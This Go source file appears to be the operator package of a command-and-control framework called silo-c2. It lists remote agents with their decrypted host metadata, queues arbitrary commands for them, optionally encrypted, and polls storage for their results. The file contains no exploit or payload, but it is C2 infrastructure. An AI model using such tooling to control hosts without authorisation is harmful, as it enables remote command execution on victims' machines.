// Package operator implements the operator console's coordination logic:
// listing agents, queueing tasks and waiting for their results.
package operator

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sort"
	"time"

	"github.com/EternisAI/silo-c2/internal/api/http/dto"
	"github.com/EternisAI/silo-c2/internal/envelope"
	"github.com/EternisAI/silo-c2/internal/results"
	"github.com/EternisAI/silo-c2/internal/store"
)

const (
	DefaultPollInterval = 2 * time.Second
	DefaultPollAttempts = 45

	MsgTimeout       = "[TIMEOUT] No results received in 90 seconds."
	MsgSendFailed    = "[ERROR] Failed to send task to agent."
	MsgDecryptFailed = "[ERROR] Failed to decrypt result from agent."
	MsgFetchFailed   = "[ERROR] Failed to fetch result from storage."
)

var ErrNoResults = errors.New("no results for agent")

// AgentView is an agent record as shown to the operator, with encrypted
// metadata merged in when it could be opened.
type AgentView struct {
	store.AgentRecord
	// MetadataEncrypted is true when the record carries encrypted metadata
	// that could not be decrypted.
	MetadataEncrypted bool
}

type Operator struct {
	agents       store.AgentStore
	artifacts    store.ArtifactStore
	envelope     *envelope.Envelope
	pollInterval time.Duration
	pollAttempts int
}

type Option func(*Operator)

func WithPollInterval(d time.Duration) Option {
	return func(o *Operator) {
		if d > 0 {
			o.pollInterval = d
		}
	}
}

func WithPollAttempts(n int) Option {
	return func(o *Operator) {
		if n > 0 {
			o.pollAttempts = n
		}
	}
}

// New builds an Operator. A nil envelope means tasks and results travel in
// plaintext.
func New(agents store.AgentStore, artifacts store.ArtifactStore, env *envelope.Envelope, opts ...Option) *Operator {
	o := &Operator{
		agents:       agents,
		artifacts:    artifacts,
		envelope:     env,
		pollInterval: DefaultPollInterval,
		pollAttempts: DefaultPollAttempts,
	}
	for _, opt := range opts {
		opt(o)
	}
	return o
}

// ListAgents returns every agent, most recently seen first. Agents that were
// never seen sort last.
func (o *Operator) ListAgents(ctx context.Context) ([]AgentView, error) {
	records, err := o.agents.ListAgents(ctx)
	if err != nil {
		return nil, fmt.Errorf("failed to fetch agents: %w", err)
	}

	views := make([]AgentView, len(records))
	for i, rec := range records {
		views[i] = o.view(rec)
	}

	sort.SliceStable(views, func(i, j int) bool {
		return views[i].LastSeen.After(views[j].LastSeen)
	})
	return views, nil
}

func (o *Operator) view(rec store.AgentRecord) AgentView {
	v := AgentView{AgentRecord: rec}
	if rec.EncryptedData == "" {
		return v
	}
	if o.envelope == nil {
		v.MetadataEncrypted = true
		return v
	}

	var meta dto.HostMetadata
	if err := o.envelope.Decrypt(rec.EncryptedData, &meta); err != nil {
		slog.Warn("Failed to decrypt agent metadata", "agent_id", rec.AgentID, "error", err)
		v.MetadataEncrypted = true
		return v
	}
	if meta.Hostname != "" {
		v.Hostname = meta.Hostname
	}
	if meta.OSName != "" {
		v.OSName = meta.OSName
	}
	return v
}

// SendTask queues command as the agent's single pending task, replacing any
// task not yet delivered.
func (o *Operator) SendTask(ctx context.Context, agentID, command string) error {
	task := command
	if o.envelope != nil {
		token, err := o.envelope.Encrypt(dto.TaskPayload{Command: command})
		if err != nil {
			return fmt.Errorf("failed to encrypt task: %w", err)
		}
		task = token
	}

	if err := o.agents.SetPendingTask(ctx, agentID, task); err != nil {
		return fmt.Errorf("failed to send task: %w", err)
	}

	slog.Info("Task queued", "agent_id", agentID, "encrypted", o.envelope != nil)
	return nil
}

// SendTaskAndAwaitResult sends command and polls for the first new result
// artifact. It always returns within the configured poll ceiling and reports
// failures as bracketed messages rather than errors.
func (o *Operator) SendTaskAndAwaitResult(ctx context.Context, agentID, command string) string {
	prefix := results.KeyPrefix(agentID)

	existing, err := o.artifacts.ListArtifactKeys(ctx, prefix)
	if err != nil {
		slog.Error("Failed to snapshot result keys", "agent_id", agentID, "error", err)
		return MsgFetchFailed
	}
	seen := make(map[string]struct{}, len(existing))
	for _, key := range existing {
		seen[key] = struct{}{}
	}

	if err := o.SendTask(ctx, agentID, command); err != nil {
		slog.Error("Failed to send task", "agent_id", agentID, "error", err)
		return MsgSendFailed
	}

	ticker := time.NewTicker(o.pollInterval)
	defer ticker.Stop()

	for attempt := 1; attempt <= o.pollAttempts; attempt++ {
		select {
		case <-ctx.Done():
			slog.Warn("Stopped waiting for result", "agent_id", agentID, "error", ctx.Err())
			return MsgTimeout
		case <-ticker.C:
		}

		keys, err := o.artifacts.ListArtifactKeys(ctx, prefix)
		if err != nil {
			slog.Warn("Failed to list results, retrying", "agent_id", agentID, "attempt", attempt, "error", err)
			continue
		}

		key, ok := firstNewKey(keys, seen)
		if !ok {
			slog.Debug("Waiting for result", "agent_id", agentID, "attempt", attempt, "of", o.pollAttempts)
			continue
		}

		slog.Info("Result received", "agent_id", agentID, "key", key, "attempt", attempt)
		return o.readResult(ctx, key)
	}

	return MsgTimeout
}

func firstNewKey(keys []string, seen map[string]struct{}) (string, bool) {
	for _, key := range keys {
		if _, ok := seen[key]; !ok {
			return key, true
		}
	}
	return "", false
}

func (o *Operator) readResult(ctx context.Context, key string) string {
	content, err := o.artifacts.GetArtifact(ctx, key)
	if err != nil {
		slog.Error("Failed to fetch result", "key", key, "error", err)
		return MsgFetchFailed
	}

	output, err := o.openResult(content)
	if err != nil {
		slog.Error("Failed to decrypt result", "key", key, "error", err)
		return MsgDecryptFailed
	}
	return output
}

func (o *Operator) openResult(content []byte) (string, error) {
	if o.envelope == nil {
		return string(content), nil
	}
	var payload dto.ResultPayload
	if err := o.envelope.Decrypt(string(content), &payload); err != nil {
		return "", err
	}
	return payload.Output, nil
}

// LatestResult returns the newest stored result for agentID.
func (o *Operator) LatestResult(ctx context.Context, agentID string) (string, string, error) {
	keys, err := o.artifacts.ListArtifactKeys(ctx, results.KeyPrefix(agentID))
	if err != nil {
		return "", "", fmt.Errorf("failed to list results: %w", err)
	}
	if len(keys) == 0 {
		return "", "", ErrNoResults
	}

	key := keys[len(keys)-1]
	content, err := o.artifacts.GetArtifact(ctx, key)
	if err != nil {
		return "", "", fmt.Errorf("failed to fetch result: %w", err)
	}

	output, err := o.openResult(content)
	if err != nil {
		return key, "", fmt.Errorf("failed to decrypt result: %w", err)
	}
	return key, output, nil
}
